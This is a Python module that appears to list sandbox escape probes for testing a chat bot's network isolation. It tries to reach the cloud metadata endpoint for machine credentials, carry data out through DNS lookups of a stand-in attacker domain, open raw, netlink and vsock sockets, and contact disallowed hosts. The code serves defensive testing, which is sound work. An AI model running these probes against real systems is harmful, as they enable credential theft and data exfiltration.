"""Attacks over the network: out to somebody, in to the bot, and past its name server."""

import socket
from collections.abc import Callable, Mapping
from pathlib import Path

from bot.domain.walls import Targets

_SECONDS = 1.0
METADATA = ("169.254.169.254", 80)
SLACK = ("slack.com", 443)
NAME_SERVER = ("192.0.2.53", 53)
OUTSIDE = ("192.0.2.1", 443)
"""TEST-NET-1 (RFC 5737): nobody is there, so what is told is the machine's own answer."""


def attempts(targets: Targets) -> Mapping[str, Callable[[], object]]:
    """Return name → attempt."""
    return {
        "connect to a port of the bot's": lambda: _connect("127.0.0.1", targets.port),
        "connect to a unix socket of the bot's": lambda: _unix(str(Path(targets.beside, "bot"))),
        "connect to an abstract socket of the bot's": lambda: _unix(f"\0{targets.abstract}"),
        "connect to a host that is not allowed": lambda: _connect(*OUTSIDE),
        "post to another client's Slack channel": lambda: _connect(*SLACK),
        "ask the cloud for the machine's credentials": lambda: _connect(*METADATA),
        "send a datagram": lambda: _sent(NAME_SERVER),
        "carry data out in the names it looks up (DNS)": lambda: socket.getaddrinfo(
            "data.attack.example", 443
        ),
        "listen for others": _listening,
        "talk to the kernel's network (netlink)": lambda: socket.socket(
            socket.AF_NETLINK, socket.SOCK_RAW
        ).close(),
        "raw packets": lambda: socket.socket(
            socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP
        ).close(),
        "a socket of the machine below (vsock)": lambda: socket.socket(
            socket.AF_VSOCK, socket.SOCK_STREAM
        ).close(),
    }


def _connect(host: str, port: int) -> None:
    socket.create_connection((host, port), timeout=_SECONDS).close()


def _unix(address: str) -> None:
    with socket.socket(socket.AF_UNIX) as made:
        made.connect(address)


def _sent(address: tuple[str, int]) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.sendto(b"x", address)


def _listening() -> None:
    """Where others could come in: not in a network of one's own, which nobody else is in."""
    with socket.socket() as made:
        made.bind(("127.0.0.1", 0))
        made.listen()
    devices = Path("/proc/self/net/dev").read_text("ascii").splitlines()[2:]
    if [one.split(":")[0].strip() for one in devices] == ["lo"]:
        raise ConnectionRefusedError
